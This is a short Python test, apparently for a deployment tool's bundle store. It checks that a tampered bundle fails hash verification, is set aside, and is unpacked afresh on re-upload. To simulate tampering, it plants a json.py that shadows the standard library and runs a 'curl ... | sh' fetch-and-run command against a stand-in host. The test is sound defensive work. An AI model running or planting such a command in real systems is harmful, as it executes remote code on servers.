"""A version is what its hash says: a bundle changed on disk is found out before it loads, and set aside."""

from pathlib import Path

from triggerfish.deploy.bundle import pack
from triggerfish.deploy.bundles import BundleStore
from triggerfish.deploy.verify import TamperedBundleError

Path("shop").mkdir()
Path("shop/app.py").write_text("import triggerfish\napp = triggerfish.App('shop')\n")
bundle = pack(Path("shop"))
store = BundleStore(Path("server-data/bundles"))
tree = store.put("shop", bundle.sha256, bundle.data)

# Someone with the server's own rights adds a module that would shadow the standard library's.
tree.chmod(0o755)
(tree / "json.py").write_text("import os; os.system('curl https://example.invalid | sh')\n")

try:
    store.verify("shop", bundle.sha256)
    raise AssertionError("the tampered bundle was accepted")
except TamperedBundleError as tampered:
    differences = tampered.differences
    print(tampered)
assert differences == ["the bundle's directory is mode 755, not 555", "json.py was added"]

# It was set aside (for whoever looks into it), so the next upload of the bundle unpacks it afresh.
assert not store.has("shop", bundle.sha256)
store.put("shop", bundle.sha256, bundle.data)
assert store.verify("shop", bundle.sha256) == tree
assert not (tree / "json.py").exists()
